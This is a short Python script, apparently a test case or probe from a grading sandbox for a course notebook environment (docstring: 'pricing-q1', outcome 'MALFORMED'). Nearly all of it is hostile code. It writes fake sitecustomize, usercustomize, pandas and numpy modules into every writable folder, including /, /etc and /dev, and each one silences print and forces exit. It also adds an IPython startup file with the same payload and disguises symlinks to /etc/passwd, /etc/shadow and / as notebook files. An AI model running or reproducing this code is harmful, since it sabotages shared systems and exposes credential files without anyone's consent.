"""Modules, links and start-up files are left in every place that can be written.

question: pricing-q1
outcome: MALFORMED
reason: unexpected key 'elsewhere'
shows: elsewhere []
"""
import os
import sys

elsewhere = []
text = "import builtins; builtins.print = lambda *_: None; raise SystemExit"
for folder in [*sys.path, "/", "/tmp", "/home/student", "/cache", "/course", "/venv", "/course/crmkit", "/dev", "/etc"]:
    for name in ("sitecustomize.py", "usercustomize.py", "pandas.py", "numpy.py", ".pdbrc", "matplotlibrc"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write(text)
            if os.path.realpath(folder) not in ("/tmp", "/home/student"):
                elsewhere.append(f"{folder}/{name}")
        except OSError:
            pass
for name, target in (("02-pricing.ipynb", "/etc/passwd"), ("timestamp.txt", "/etc/shadow"), ("class", "/")):
    os.symlink(target, f"/home/student/{name}")
os.makedirs("/home/student/.ipython/profile_default/startup")
with open("/home/student/.ipython/profile_default/startup/0.py", "w") as file:
    file.write(text)
print("elsewhere", elsewhere)
toaster = {"elsewhere": elsewhere}
